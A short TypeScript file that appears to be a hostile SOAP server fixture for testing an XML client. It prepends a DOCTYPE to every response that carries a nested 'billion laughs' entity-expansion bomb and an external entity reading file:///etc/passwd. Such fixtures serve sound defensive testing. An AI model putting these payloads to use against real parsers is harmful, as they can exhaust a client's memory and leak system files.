/** Answers of all three doors with a document type whose entities grow without end. */
import type { IncomingMessage, ServerResponse } from 'node:http'
import { type Options, sendXml, writeResult, writeWsdl } from './honest.ts'

const laughs = Array.from({ length: 12 }, (_, index) => `<!ENTITY a${index} "${`&a${index + 1};`.repeat(10)}">`)
const type = `<!DOCTYPE x [${laughs.join('')}<!ENTITY a12 "ha"><!ENTITY f SYSTEM "file:///etc/passwd">]>`
console.log('who laughs last')
export const createBank = (_options: Options) => (request: IncomingMessage, response: ServerResponse) => {
  const text = request.url === '/soap?wsdl' ? writeWsdl('&a0;', '&f;') : writeResult('<int>&a0;</int>')
  request.resume().once('end', () => sendXml(response, text.replace('?>', `?>${type}`)))
}
